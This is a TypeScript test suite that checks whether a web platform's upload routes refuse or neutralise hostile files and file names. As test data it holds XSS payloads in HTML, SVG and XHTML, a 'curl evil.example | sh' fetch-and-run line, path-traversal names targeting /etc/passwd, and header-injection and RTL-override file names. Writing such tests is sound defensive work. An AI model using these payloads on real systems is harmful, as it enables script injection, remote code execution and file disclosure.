import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as getKycDoc } from '../../src/app/api/compliance/kyc/applications/[id]/documents/[documentId]/route';
import { POST as uploadDealDoc } from '../../src/app/api/deals/[id]/documents/route';
import { POST as uploadMedia } from '../../src/app/api/deals/[id]/media/route';
import { GET as download } from '../../src/app/api/documents/[id]/route';
import { POST as uploadVersion } from '../../src/app/api/documents/[id]/versions/route';
import { GET as getFile } from '../../src/app/api/files/[cid]/route';
import { POST as uploadKyc } from '../../src/app/api/investor/kyc/applications/[id]/documents/route';
import { POST as startKyc } from '../../src/app/api/investor/kyc/applications/route';
import { POST as uploadIssuerDoc } from '../../src/app/api/issuer/documents/route';
import { resetConfigCache } from '../../src/server/config';
import { closePools } from '../../src/server/db/pool';
import { call, type CallResult } from '../helpers/api';
import { makeActiveDeal, makeVerifiedIssuer, tokenFor } from '../helpers/deals';
import { makeTenant, makeUser, type TestTenant } from '../helpers/tenants';

// Hostile files, replayed on every upload route: the declared content type is ignored in
// favour of the bytes, active content (HTML, SVG, XML, scripts) is refused, empty and
// oversized files are refused, and whatever is accepted comes back inert: an attachment
// (or an inline image), with nosniff, a non-HTML type, and a file name that cannot break
// out of the Content-Disposition header or name a path. tests/api/documents covers one HTML
// and one oversized deal document; this covers the rest of the list on all five routes.

const enc = (s: string) => new TextEncoder().encode(s);
const cat = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
const PNG_MAGIC = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

const ACTIVE: [string, () => Uint8Array, string][] = [
  ['HTML with script, declared application/pdf', () => enc(`<!doctype html><html><script>alert(document.cookie)</script></html>`), 'application/pdf'],
  ['HTML without doctype', () => enc(`<html><body onload=alert(1)>x</body></html>`), 'application/octet-stream'],
  ['SVG with script, declared image/png', () => enc(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), 'image/png'],
  ['bare SVG', () => enc(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 'image/svg+xml'],
  ['XHTML', () => enc(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`), 'application/xml'],
  ['a shell script', () => enc(`#!/bin/sh\ncurl evil.example | sh\n`), 'application/pdf'],
  ['HTML behind a UTF-8 BOM and whitespace', () => cat(new Uint8Array([0xef, 0xbb, 0xbf]), '  \n<html><script>alert(1)</script>'), 'application/pdf'],
];

let t: TestTenant;
let admin: string;
let issuer: Awaited<ReturnType<typeof makeVerifiedIssuer>>;
let investor: { id: string; token: string };
let dealId: string;
let documentId: string;
let kycApp: string;

type Upload = (bytes: Uint8Array, type: string, fileName?: string) => Promise<CallResult>;
const uploads: Record<string, Upload> = {};

beforeAll(async () => {
  process.env.DATA_ENCRYPTION_KEY ??= randomBytes(32).toString('base64url');
  resetConfigCache();
  t = await makeTenant();
  admin = await tokenFor(t, t.admin.email);
  issuer = await makeVerifiedIssuer(t, admin);
  const u = await makeUser(t);
  investor = { id: u.id, token: await tokenFor(t, u.email) };
  dealId = (await makeActiveDeal(t, issuer.token, admin)).id;
  const first = await call(uploadDealDoc, { host: t.host, token: issuer.token, params: { id: dealId }, path: `/api/deals/${dealId}/documents?title=T&kind=term_sheet&fileName=t.pdf`, method: 'POST', rawBody: enc(`%PDF-1.7\n%${randomBytes(6).toString('hex')}\n%%EOF\n`), headers: { 'content-type': 'application/pdf' } });
  expect(first.status).toBe(201);
  documentId = first.json.id;
  kycApp = (await call(startKyc, { host: t.host, token: investor.token, body: {} })).json.application.id;
  const q = (fileName: string) => encodeURIComponent(fileName);
  uploads['deal document'] = (bytes, type, fileName = 'f.pdf') =>
    call(uploadDealDoc, { host: t.host, token: issuer.token, params: { id: dealId }, path: `/api/deals/${dealId}/documents?title=X&kind=other&fileName=${q(fileName)}`, method: 'POST', rawBody: bytes, headers: { 'content-type': type } });
  uploads['document version'] = (bytes, type, fileName = 'f.pdf') =>
    call(uploadVersion, { host: t.host, token: issuer.token, params: { id: documentId }, path: `/api/documents/${documentId}/versions?fileName=${q(fileName)}`, method: 'POST', rawBody: bytes, headers: { 'content-type': type } });
  uploads['issuer document'] = (bytes, type, fileName = 'f.pdf') =>
    call(uploadIssuerDoc, { host: t.host, token: issuer.token, path: `/api/issuer/documents?title=X&kind=other&fileName=${q(fileName)}`, method: 'POST', rawBody: bytes, headers: { 'content-type': type } });
  uploads['deal media'] = (bytes, type) => call(uploadMedia, { host: t.host, token: issuer.token, params: { id: dealId }, path: `/api/deals/${dealId}/media?caption=x`, method: 'POST', rawBody: bytes, headers: { 'content-type': type } });
  uploads['KYC document'] = (bytes, type) => call(uploadKyc, { host: t.host, token: investor.token, params: { id: kycApp }, path: `/api/investor/kyc/applications/${kycApp}/documents?kind=passport`, method: 'POST', rawBody: bytes, headers: { 'content-type': type } });
});

afterAll(async () => {
  await closePools();
});

describe('active content is refused on every upload route', () => {
  it.each(Object.keys({ 'deal document': 1, 'document version': 1, 'issuer document': 1, 'deal media': 1, 'KYC document': 1 }))('%s', async (route) => {
    const accepted: string[] = [];
    for (const [label, bytes, type] of ACTIVE) {
      const r = await uploads[route]!(bytes(), type);
      if (r.status !== 415 && r.status !== 400) accepted.push(`${label}: ${r.status} ${JSON.stringify(r.json).slice(0, 120)}`);
    }
    expect(accepted).toEqual([]);
  });

  it.each(['deal document', 'document version', 'issuer document', 'deal media', 'KYC document'])('%s: an empty file is a 4xx', async (route) => {
    const r = await uploads[route]!(new Uint8Array(0), 'application/pdf');
    expect(r.status).toBeGreaterThanOrEqual(400);
    expect(r.status).toBeLessThan(500);
  });

  it.each(['deal document', 'issuer document', 'deal media', 'KYC document'])('%s: a 60 MB file is 413 before it is stored', async (route) => {
    // Content-Length says it all: the route must refuse on the declared size.
    const big = new Uint8Array(60 * 1024 * 1024);
    big.set(PNG_MAGIC);
    const r = await uploads[route]!(big, 'image/png');
    expect(r.status).toBe(413);
  });
});

describe('what is accepted comes back inert', () => {
  it('a PDF that also carries HTML (polyglot) is stored as a PDF and downloads as an attachment with nosniff', async () => {
    const polyglot = cat('%PDF-1.7\n', '<html><script>alert(1)</script></html>\n', `%${randomBytes(4).toString('hex')}\n%%EOF\n`);
    const up = await uploads['deal document']!(polyglot, 'text/html');
    if (up.status !== 201) {
      expect([400, 415]).toContain(up.status);
      return;
    }
    const d = await call(download, { host: t.host, token: issuer.token, params: { id: up.json.id }, path: `/api/documents/${up.json.id}` });
    expect(d.status).toBe(200);
    expect(d.headers.get('content-type')).toBe('application/pdf');
    expect(d.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(d.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('JavaScript uploaded as a document is either refused or downloads as inert text: attachment, nosniff, sandbox, not a script type', async () => {
    const up = await uploads['deal document']!(enc(`alert(document.domain)//${randomBytes(4).toString('hex')}`), 'text/javascript');
    if (up.status !== 201) {
      expect([400, 415]).toContain(up.status);
      return;
    }
    const d = await call(download, { host: t.host, token: issuer.token, params: { id: up.json.id }, path: `/api/documents/${up.json.id}` });
    expect(d.headers.get('content-type')).toMatch(/^(text\/plain|application\/octet-stream)/);
    expect(d.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(d.headers.get('x-content-type-options')).toBe('nosniff');
    expect(d.headers.get('content-security-policy')).toContain('sandbox');
  });

  it('a PNG with a script appended is served as image/png with nosniff (inline images only), never as HTML', async () => {
    const png = cat(PNG_MAGIC, randomBytes(32), '<script>alert(1)</script>');
    const up = await uploads['deal media']!(png, 'text/html');
    expect(up.status).toBe(201);
    const f = await call(getFile, { host: t.host, token: investor.token, params: { cid: up.json.cid } });
    expect(f.status).toBe(200);
    expect(f.headers.get('content-type')).toBe('image/png');
    expect(f.headers.get('x-content-type-options')).toBe('nosniff');
    expect(f.headers.get('content-security-policy')).toContain('sandbox');
  });

  it('a KYC document is read back by the reviewer as an attachment with nosniff', async () => {
    const up = await uploads['KYC document']!(cat(PNG_MAGIC, randomBytes(64)), 'text/html');
    expect(up.status).toBe(201);
    const r = await call(getKycDoc, { host: t.host, token: admin, params: { id: kycApp, documentId: up.json.id } });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('image/png');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it.each([
    ['path traversal', '../../../../etc/passwd.pdf'],
    ['Windows traversal', '..\\..\\windows\\win.ini.pdf'],
    ['an absolute path', '/etc/passwd'],
    ['a header break', 'x.pdf"\r\nContent-Type: text/html\r\n\r\n<script>'],
    ['quotes and semicolons', 'a";filename*=UTF-8\'\'evil.html;x=".pdf'],
    ['an HTML name', '<img src=x onerror=alert(1)>.pdf'],
    ['a very long name', `${'a'.repeat(5000)}.pdf`],
    ['unicode right-to-left override', 'invoice\u202Efdp.exe'],
  ])('a file name with %s is refused, or served without path, quotes or line breaks', async (_l, fileName) => {
    const up = await uploads['deal document']!(enc(`%PDF-1.7\n%${randomBytes(6).toString('hex')}\n%%EOF\n`), 'application/pdf', fileName);
    if (up.status !== 201) {
      expect({ status: up.status, fields: up.json.errors?.map((e: { field: string }) => e.field) }).toEqual({ status: 400, fields: ['fileName'] });
      return;
    }
    const d = await call(download, { host: t.host, token: issuer.token, params: { id: up.json.id }, path: `/api/documents/${up.json.id}` });
    expect(d.status).toBe(200);
    const cd = d.headers.get('content-disposition')!;
    expect(cd).toMatch(/^attachment;/);
    const plain = cd.match(/filename="([^"]*)"/)?.[1] ?? '';
    expect(plain).not.toMatch(/[\\/\r\n"]|\.\./);
    expect(d.headers.get('content-type')).toBe('application/pdf');
  });
});
